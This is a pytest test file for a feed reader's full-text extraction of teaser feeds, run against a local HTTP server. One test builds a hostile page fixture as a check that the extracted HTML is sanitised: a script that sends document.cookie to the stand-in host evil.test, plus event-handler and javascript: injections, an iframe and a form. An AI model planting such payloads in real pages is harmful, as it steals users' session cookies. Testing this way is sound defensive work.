"""Full text for teaser feeds, against a real HTTP server on 127.0.0.1: detection, extraction, the
per-refresh cap, a 404, a hostile page (sanitised) and a huge one (bounded), and the on/off choice."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from html import escape

import pytest

pytest.importorskip("trafilatura")

from app.errors import StorageError
from app.feeds.extract import is_teaser_feed, looks_like_teaser
from app.feeds.normalize import MAX_HTML
from app.fetching import Refresher
from app.fetching.full_text import PAGE_CAP_BYTES
from app.models import ParsedItem
from tests.fetching.conftest import TEST_OPTIONS
from tests.fetching.fixtures import rss
from tests.support.http import Reply

RSS = {"Content-Type": "application/rss+xml"}
HTML = {"Content-Type": "text/html; charset=utf-8"}
PARAGRAPH = "The council met on Tuesday and voted to rebuild the old harbour wall before the winter storms. "


def teaser_feed(base: str, n: int, *, marker: str = " […]") -> str:
    now = datetime.now(UTC)
    items = "".join(
        f"<item><title>Story {i}</title><link>{base}/a/{i}</link><guid>story-{i}</guid>"
        f"<pubDate>{format_datetime(now - timedelta(hours=i), usegmt=True)}</pubDate>"
        f"<description>{escape(f'<p>The first lines of story {i}{marker}</p>')}</description></item>"
        for i in range(n)
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Teasers</title>'
        f"<link>{base}/</link><description>d</description>{items}</channel></rss>"
    )


def article_page(i: int, *, extra: str = "", paragraphs: int = 6) -> str:
    body = "".join(f"<p>{PARAGRAPH}Part {k} of story {i}.</p>" for k in range(paragraphs))
    return (
        f"<html><head><title>Story {i}</title></head><body><nav><a href='/'>Home</a> | <a href='/about'>About</a>"
        f"</nav><article><h1>Story {i}</h1>{body}{extra}</article><footer>© Example News</footer></body></html>"
    )


def serve_teasers(server, n: int, **feed_kwargs) -> str:
    server.route("/feed.xml", Reply(200, teaser_feed(server.url("").rstrip("/"), n, **feed_kwargs), RSS))
    for i in range(n):
        server.route(f"/a/{i}", Reply(200, article_page(i), HTML))
    return server.url("/feed.xml")


def refresh(store, feed_id: int, **overrides) -> None:
    options = replace(TEST_OPTIONS, **overrides) if overrides else TEST_OPTIONS
    with Refresher(store, options=options) as refresher:
        refresher.refresh(feed_ids=[feed_id])


def articles_by_guid(store, feed_id: int) -> dict[str, object]:
    ids = [row[0] for row in store._conn.execute("SELECT id FROM articles WHERE feed_id = ?", (feed_id,))]
    return {a.guid: a for a in (store.get_article(i) for i in ids)}


# detection -------------------------------------------------------------------------------------
def _item(i: int, content: str = "", summary: str = "", url: str | None = "http://x.test/a") -> ParsedItem:
    return ParsedItem(guid=f"g{i}", url=url, title=f"t{i}", content_html=content, summary_html=summary)


def test_detection_wants_short_texts_that_end_in_read_more_or_repeat_the_summary():
    assert looks_like_teaser(_item(0, "<p>The start of it…</p>"))
    assert looks_like_teaser(_item(0, "<p>Start. <a href='x'>Read more</a></p>"))
    assert looks_like_teaser(_item(0, "<p>Same words</p>", "<p>Same words</p>"))
    assert not looks_like_teaser(_item(0, "<p>A complete short note.</p>"))
    assert not looks_like_teaser(_item(0, "<p>" + "word " * 200 + "…</p>"))  # long: not a teaser
    assert not looks_like_teaser(_item(0, "<p>The start of it…</p>", url="mailto:a@b.c"))
    teasers = [_item(i, "<p>Begins here [...]</p>") for i in range(3)]
    full = [_item(i, "<p>" + "word " * 200 + "</p>") for i in range(3)]
    assert is_teaser_feed(teasers) and not is_teaser_feed(full)
    assert not is_teaser_feed(teasers[:1])  # one item is not enough to judge a feed
    assert is_teaser_feed(teasers + full[:2]) and not is_teaser_feed(teasers[:2] + full)


# the whole path ----------------------------------------------------------------------------------
def test_a_teaser_feed_gets_its_articles_from_their_pages(store, server):
    feed = store.add_feed(serve_teasers(server, 3))
    refresh(store, feed.id)
    assert store.full_text_setting(feed.id).teaser is True and store.full_text_setting(feed.id).enabled
    articles = articles_by_guid(store, feed.id)
    assert set(articles) == {"story-0", "story-1", "story-2"}
    for i in range(3):
        article = articles[f"story-{i}"]
        assert f"Part 5 of story {i}." in article.content_html and "harbour wall" in article.content_html
        assert "Home" not in article.content_html and "Example News" not in article.content_html
        assert f"The first lines of story {i}" in article.summary_html  # the teaser is kept as the summary
        assert len(server.requests_to(f"/a/{i}")) == 1
    # the search index sees the full text, and a second refresh fetches no page again
    assert {row.id for row in store.search("harbour")} == {a.id for a in articles.values()}
    refresh(store, feed.id)
    assert all(len(server.requests_to(f"/a/{i}")) == 1 for i in range(3))
    assert "Part 5 of story 0." in articles_by_guid(store, feed.id)["story-0"].content_html


def test_a_feed_with_whole_articles_is_left_alone(store, server):
    server.route("/full.xml", Reply(200, rss("Full", 3, link_base=server.url("").rstrip("/")), RSS))
    feed = store.add_feed(server.url("/full.xml"))
    refresh(store, feed.id)
    setting = store.full_text_setting(feed.id)
    assert (setting.mode, setting.teaser, setting.enabled) == ("auto", False, False)
    assert [r.path for r in server.requests] == ["/full.xml"]


def test_off_wins_over_detection_and_on_wins_over_it(store, server):
    feed = store.add_feed(serve_teasers(server, 2))
    store.set_full_text(feed.id, "off")
    refresh(store, feed.id)
    assert [r.path for r in server.requests] == ["/feed.xml"]
    # a feed with no teaser markers at all, switched on by hand
    server.route(
        "/plain.xml", Reply(200, rss("Plain", 2, prefix="a", link_base=server.url("").rstrip("/")), RSS)
    )
    plain = store.update_feed(store.add_feed(server.url("/plain.xml")).id, full_text="on")
    refresh(store, plain.id)
    assert len(server.requests_to("/a/0")) == 1 and len(server.requests_to("/a/1")) == 1
    assert "Part 5 of story 1." in articles_by_guid(store, plain.id)["a-1"].content_html
    with pytest.raises(StorageError, match="full-text choice"):
        store.set_full_text(feed.id, "sometimes")


def test_at_most_the_cap_of_pages_per_feed_per_refresh_newest_first(store, server):
    feed = store.add_feed(serve_teasers(server, 25))
    refresh(store, feed.id)
    fetched = {int(r.path.rsplit("/", 1)[1]) for r in server.requests if r.path.startswith("/a/")}
    assert fetched == set(range(20))  # the 20 newest
    refresh(store, feed.id)  # the next refresh takes the rest
    fetched = [int(r.path.rsplit("/", 1)[1]) for r in server.requests if r.path.startswith("/a/")]
    assert sorted(fetched) == list(range(25))


def test_failures_are_recorded_per_article_and_do_not_fail_the_feed(store, server):
    url = serve_teasers(server, 4)
    server.route("/a/1", Reply(404, "<html><body>Not found</body></html>", HTML))
    server.route("/a/2", Reply(200, b"%PDF-1.7 ...", {"Content-Type": "application/pdf"}))
    server.route("/a/3", Reply(200, "<html><body><p>Subscribe!</p></body></html>", HTML))  # no article
    feed = store.add_feed(url)
    with Refresher(store, options=TEST_OPTIONS) as refresher:
        report = refresher.refresh(feed_ids=[feed.id])
    assert report.outcomes[0].error is None and report.outcomes[0].new_articles == 4
    articles = articles_by_guid(store, feed.id)
    errors = store.full_text_errors([a.id for a in articles.values()])
    assert set(errors) == {articles["story-1"].id, articles["story-2"].id, articles["story-3"].id}
    assert "404" in errors[articles["story-1"].id]
    assert "not a web page" in errors[articles["story-2"].id]
    assert "no article text" in errors[articles["story-3"].id]
    assert "Part 5 of story 0." in articles["story-0"].content_html
    assert "The first lines of story 1" in articles["story-1"].content_html  # the teaser stays
    refresh(store, feed.id)  # a failed page is not fetched again every refresh
    assert len(server.requests_to("/a/1")) == 1


def test_a_hostile_page_is_sanitised(store, server):
    url = serve_teasers(server, 2)
    hostile = (
        "<script>document.location='http://evil.test/?c='+document.cookie</script>"
        '<p onclick="steal()">Click <a href="javascript:steal()">here</a> and '
        '<img src="/pic.png" onerror="steal()"> <iframe src="http://evil.test/frame"></iframe></p>'
        "<style>body{display:none}</style><form action='http://evil.test/'><input name='p'></form>"
    )
    server.route("/a/0", Reply(200, article_page(0, extra=hostile), HTML))
    feed = store.add_feed(url)
    refresh(store, feed.id)
    html = articles_by_guid(store, feed.id)["story-0"].content_html
    assert "Part 5 of story 0." in html
    lowered = html.lower()
    for bad in (
        "<script",
        "onclick",
        "onerror",
        "javascript:",
        "<iframe",
        "<style",
        "<form",
        "<input",
        "cookie",
    ):
        assert bad not in lowered, bad
    assert not [r for r in server.requests if "evil" in r.path]


def test_a_huge_page_is_bounded(store, server):
    url = serve_teasers(server, 3)
    server.route("/a/0", Reply(200, article_page(0, paragraphs=15_000), HTML))  # ~1.6 MB of article
    server.route("/a/1", Reply(200, b"<html><body>" + b"<p>x</p>" * (PAGE_CAP_BYTES // 8 + 10), HTML))
    feed = store.add_feed(url)
    refresh(store, feed.id)
    articles = articles_by_guid(store, feed.id)
    big = articles["story-0"].content_html
    assert len(big) <= MAX_HTML and "article cut" in big and "Part 0 of story 0." in big
    errors = store.full_text_errors([articles["story-1"].id])
    assert (
        "article page" in errors[articles["story-1"].id]
        and "larger than 5 MB" in errors[articles["story-1"].id]
    )
    assert "Part 5 of story 2." in articles["story-2"].content_html


# the CLI -----------------------------------------------------------------------------------------
def test_cli_add_with_full_text_and_feed_option(data_dir, server, capsys):
    from app.cli import run
    from app.storage import open_store

    server.route(
        "/plain.xml", Reply(200, rss("Plain", 2, prefix="a", link_base=server.url("").rstrip("/")), RSS)
    )
    for i in range(2):
        server.route(f"/a/{i}", Reply(200, article_page(i), HTML))
    assert run(["--data-dir", str(data_dir), "add", server.url("/plain.xml"), "--full-text"]) == 0
    assert len(server.requests_to("/a/0")) == 1 and len(server.requests_to("/a/1")) == 1
    with open_store(data_dir / "hearth.sqlite3") as store:
        (feed,) = store.list_feeds()
        assert "Part 5 of story 0." in articles_by_guid(store, feed.id)["a-0"].content_html
    capsys.readouterr()
    assert run(["--data-dir", str(data_dir), "feed-option", str(feed.id), "--full-text", "off"]) == 0
    assert f"feed {feed.id} full text: off (off; not detected as a teaser feed)" in capsys.readouterr().out
    assert run(["--data-dir", str(data_dir), "feed-option", str(feed.id)]) == 0
    assert "full text: off" in capsys.readouterr().out
    assert run(["--data-dir", str(data_dir), "feed-option", "99"]) == 1
    assert "no feed with id 99" in capsys.readouterr().err


def test_pages_get_vault_cookies_only_for_their_own_host(store, hosts):
    feed_host, other = hosts(1), hosts(2)
    base = feed_host.url("").rstrip("/")
    doc = teaser_feed(base, 2).replace(f"{base}/a/1", other.url("/a/1"))
    feed_host.route("/feed.xml", Reply(200, doc, RSS))
    feed_host.route("/a/0", Reply(200, article_page(0), HTML))
    other.route("/a/1", Reply(200, article_page(1), HTML))
    feed = store.add_feed(feed_host.url("/feed.xml"))
    asked: list[str] = []

    def vault(url: str) -> str | None:
        asked.append(url)
        return "sid=secret" if url.startswith(base) else None

    with Refresher(store, options=TEST_OPTIONS, cookie_header_for=vault) as refresher:
        refresher.refresh(feed_ids=[feed.id])
    (page0,) = feed_host.requests_to("/a/0")
    (page1,) = other.requests_to("/a/1")
    assert page0.headers.get("cookie") == "sid=secret"
    assert "cookie" not in page1.headers
    assert "text/html" in page0.headers.get("accept", "")
    articles = articles_by_guid(store, feed.id)
    assert "Part 5 of story 1." in articles["story-1"].content_html


def test_a_cancelled_refresh_fetches_no_pages(store, server):
    import threading

    feed = store.add_feed(serve_teasers(server, 3))
    cancel = threading.Event()
    with Refresher(store, options=TEST_OPTIONS) as refresher:
        refresher.refresh(feed_ids=[feed.id], progress=lambda *_: cancel.set(), cancel=cancel)
    assert [r.path for r in server.requests] == ["/feed.xml"]
    assert len(articles_by_guid(store, feed.id)) == 3  # the feed itself was stored
    refresh(store, feed.id)  # the next refresh picks the pages up
    assert all(len(server.requests_to(f"/a/{i}")) == 1 for i in range(3))
